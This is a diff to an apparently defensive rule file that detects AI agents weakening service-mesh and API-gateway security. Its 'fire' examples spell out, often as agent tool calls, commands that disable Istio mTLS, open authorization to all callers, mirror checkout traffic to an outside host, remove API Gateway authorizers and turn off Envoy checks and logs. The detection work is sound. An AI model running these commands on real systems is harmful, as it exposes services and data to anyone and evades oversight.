@@ -8,7 +8,9 @@ import { containerVerbAt, copyOperands, editsInPlace, ghApiCall, optionValue, pr
 import { readSedScript, sedReplacements, sedScripts, sedSubstitutions } from '../shell/sed-script.js';
 import { NETCATS, isFetcher, isInterpreter, isShell } from './command_and_control.js';
 import { hasHiddenName, hiddenInTemp, inTemp, isStagingPath, isTestData } from '../knowledge/paths.js';
-import { assignments, putIn, removedFiles, writes, writtenOrRun } from './persistence.js';
+import { assignments, inManifests, putIn, removedFiles, writes, writtenOrRun } from './persistence.js';
+import { meshSettingsWeakened, meshWeakened } from '../knowledge/service-mesh.js';
+import { envoyDefenceOff, gatewayDefenceOff } from '../knowledge/api-gateway.js';
 import { BUILD_TOOLS, COMPILER_DRIVER, COMPILERS, MINERS } from '../knowledge/programs.js';
 import { agentSettingsFile } from './prompt_engineering.js';
 import { table } from '../knowledge/table.js';
@@ -2070,6 +2072,59 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: ['flatpak override --user --filesystem=home --socket=x11 --talk-name=org.freedesktop.secrets com.spotify.Client', 'flatpak override --user --filesystem=~/.ssh:ro org.example.Notes', 'sudo flatpak override --filesystem=host'],
       quiet: ['flatpak override --user --filesystem=home com.visualstudio.code', 'flatpak override --user --socket=wayland org.mozilla.firefox', 'flatpak override --user --show com.spotify.Client', 'flatpak override --user --reset com.spotify.Client', 'flatpak override --user --filesystem=xdg-download'],
+    },
+  },
+  {
+    id: 'PX-EVADE-069', name: 'weakens-service-mesh', score: 80, tactic: 'defense_evasion', technique: 'T1562', strong: true,
+    message: "Weakens a service mesh's defences: mutual TLS off, authorization opened to every caller, traffic mirrored or routed outside the cluster, an authorization filter removed or credentials copied out, the mesh's access logs off",
+    why: "The mesh is what proves which service is calling and records who called; with mTLS off or an ALLOW-everything policy any pod, or anyone past the ingress, reaches payments and ledgers, and a mirror sends every request with its tokens to someone else.",
+    alternative: 'Scope a change to the workload and port that need it (a selector, `portLevelMtls`), name the callers in `from`, and keep mirrors and routes inside the cluster.',
+    check: (i) => inManifests(i, meshWeakened) ?? (i.view?.commands ?? []).filter((c) => c.name === 'istioctl').map((c) => meshSettingsWeakened(c.argv)).find((x) => x !== undefined),
+    examples: {
+      fire: [
+        { Unknown: { tool_name: 'mcp__kubernetes__kubectl_apply', params: { manifest: 'apiVersion: security.istio.io/v1\nkind: PeerAuthentication\nmetadata:\n  name: default\n  namespace: istio-system\nspec:\n  mtls:\n    mode: DISABLE\n' } } },
+        { Unknown: { tool_name: 'mcp__kubernetes__kubectl_patch', params: { resourceType: 'peerauthentication', name: 'default', namespace: 'istio-system', patchType: 'merge', patchData: { spec: { mtls: { mode: 'PERMISSIVE' } } } } } },
+        { Unknown: { tool_name: 'mcp__kubernetes__kubectl_apply', params: { manifest: 'apiVersion: security.istio.io/v1\nkind: AuthorizationPolicy\nmetadata:\n  name: allow-all\n  namespace: istio-system\nspec:\n  action: ALLOW\n  rules:\n  - {}\n' } } },
+        { Unknown: { tool_name: 'mcp__kubernetes__kubectl_apply', params: { manifest: 'apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata:\n  name: checkout\n  namespace: checkout\nspec:\n  hosts:\n  - checkout.checkout.svc.cluster.local\n  http:\n  - route:\n    - destination:\n        host: checkout.checkout.svc.cluster.local\n    mirror:\n      host: collector.telemetry-sink.io\n' } } },
+        "istioctl install -y --set profile=default --set meshConfig.accessLogFile=''",
+      ],
+      quiet: [
+        { Unknown: { tool_name: 'mcp__kubernetes__kubectl_apply', params: { manifest: 'apiVersion: security.istio.io/v1\nkind: PeerAuthentication\nmetadata:\n  name: default\n  namespace: payments\nspec:\n  mtls:\n    mode: STRICT\n' } } },
+        { Unknown: { tool_name: 'mcp__kubernetes__kubectl_apply', params: { manifest: 'apiVersion: security.istio.io/v1\nkind: PeerAuthentication\nmetadata:\n  name: legacy-batch\n  namespace: reporting\nspec:\n  selector:\n    matchLabels:\n      app: report-ingest\n  mtls:\n    mode: STRICT\n  portLevelMtls:\n    9091:\n      mode: PERMISSIVE\n' } } },
+        { Unknown: { tool_name: 'mcp__kubernetes__kubectl_apply', params: { manifest: 'apiVersion: security.istio.io/v1\nkind: AuthorizationPolicy\nmetadata:\n  name: require-jwt\n  namespace: istio-system\nspec:\n  action: DENY\n  rules:\n  - from:\n    - source:\n        notRequestPrincipals: ["*"]\n' } } },
+        { Unknown: { tool_name: 'mcp__kubernetes__kubectl_apply', params: { manifest: 'apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata:\n  name: reviews-shadow\n  namespace: bookinfo\nspec:\n  hosts:\n  - reviews.bookinfo.svc.cluster.local\n  http:\n  - route:\n    - destination:\n        host: reviews.bookinfo.svc.cluster.local\n        subset: v2\n    mirror:\n      host: reviews.bookinfo.svc.cluster.local\n      subset: v3\n' } } },
+        { Unknown: { tool_name: 'mcp__kubernetes__kubectl_apply', params: { manifest: 'apiVersion: telemetry.istio.io/v1\nkind: Telemetry\nmetadata:\n  name: access-logs\n  namespace: orders\nspec:\n  accessLogging:\n  - providers:\n    - name: envoy\n' } } },
+        'istioctl install -y --set profile=default --set meshConfig.accessLogFile=/dev/stdout',
+      ],
+    },
+  },
+  {
+    id: 'PX-EVADE-070', name: 'weakens-api-gateway', score: 80, tactic: 'defense_evasion', technique: 'T1562', strong: true,
+    message: "Turns off an API gateway's or edge proxy's checks: authorization taken off a route or method or its authorizer deleted, the API opened to every principal, an Envoy's authorization or rate limits switched off at runtime, logs turned off",
+    why: 'The gateway is where callers prove who they are and where their requests are recorded: with authorization off every endpoint behind it answers anyone on the internet, unrecorded.',
+    alternative: 'Change authorizers and logging through the API definition in the repository, reviewed; debug Envoy with a log level for one component, not by switching filters off.',
+    check: (i) => {
+      if (i.call.kind === 'network' && i.call.method !== 'GET') return envoyDefenceOff(i.call.url);
+      return (i.view?.commands ?? []).map(gatewayDefenceOff).find((x) => x !== undefined);
+    },
+    examples: {
+      fire: [
+        'aws apigateway update-method --rest-api-id 7k2x9qd1rf --resource-id q3b8ne --http-method POST --patch-operations op=replace,path=/authorizationType,value=NONE op=remove,path=/authorizerId',
+        'aws apigatewayv2 update-route --api-id a8f3kz02lm --route-id 4vq7w1 --authorization-type NONE',
+        'aws apigateway update-stage --rest-api-id 7k2x9qd1rf --stage-name prod --patch-operations op=replace,path=/*/*/logging/loglevel,value=OFF op=remove,path=/accessLogSettings',
+        'aws apigatewayv2 update-stage --api-id a8f3kz02lm --stage-name $default --access-log-settings DestinationArn=,Format=',
+        { Network: { method: 'POST', url: 'http://127.0.0.1:9901/runtime_modify?envoy.ext_authz.enabled=0&ext_authz.filter_enabled.numerator=0' } },
+        "kubectl exec -n edge deploy/envoy-edge -- curl -s -X POST 'http://localhost:9901/runtime_modify?ratelimit.http_filter_enabled=0&ratelimit.http_filter_enforcing=0'",
+        { Unknown: { tool_name: 'mcp__kubernetes__pods_exec', params: { namespace: 'istio-system', name: 'istio-ingressgateway-6b9f7c5d8-tx4pw', container: 'istio-proxy', command: ['pilot-agent', 'request', 'POST', 'logging?level=off'] } } },
+      ],
+      quiet: [
+        'aws apigateway update-stage --rest-api-id 7k2x9qd1rf --stage-name prod --patch-operations op=replace,path=/*/*/logging/loglevel,value=INFO op=replace,path=/tracingEnabled,value=true',
+        'aws apigateway delete-stage --rest-api-id 7k2x9qd1rf --stage-name feature-ord-690',
+        'aws apigatewayv2 update-route --api-id a8f3kz02lm --route-id 4vq7w1 --authorization-type JWT --authorizer-id x1d9ka',
+        { Network: { method: 'POST', url: 'http://127.0.0.1:9901/logging?level=info' } },
+        { Network: { method: 'POST', url: 'http://127.0.0.1:9901/runtime_modify?upstream.healthy_panic_threshold=30' } },
+        { Network: { method: 'GET', url: 'http://127.0.0.1:9901/clusters' } },
+      ],
     },
   },
   {
